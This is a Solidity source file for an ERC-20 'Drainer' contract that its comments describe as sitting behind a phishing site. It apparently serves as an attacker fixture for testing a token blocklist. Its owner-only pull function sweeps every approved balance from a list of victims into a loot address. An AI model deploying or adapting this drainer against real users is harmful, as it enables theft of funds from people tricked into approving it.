// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";

/// @title The contract behind a phishing site
/// @notice People were told to approve it; it spends what they approved, batch
/// by batch. Nothing is wrong with the token or the vault: only the blocklist
/// stops this one.
contract Drainer {
    IERC20 public immutable token;
    address public immutable owner;

    event Pulled(address indexed victim, uint256 amount);

    /// @notice Only the attacker drives the attack.
    error NotOwner(address caller);

    constructor(IERC20 token_) {
        token = token_;
        owner = msg.sender;
    }

    /// @notice Moves everything that `victims` hold and have approved to
    /// `loot`: one step of the series.
    function pull(address[] calldata victims, address loot) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        for (uint256 i = 0; i < victims.length; i++) {
            address victim = victims[i];
            uint256 amount =
                Math.min(token.balanceOf(victim), token.allowance(victim, address(this)));
            if (amount == 0) continue;
            emit Pulled(victim, amount);
            assert(token.transferFrom(victim, loot, amount));
        }
    }
}
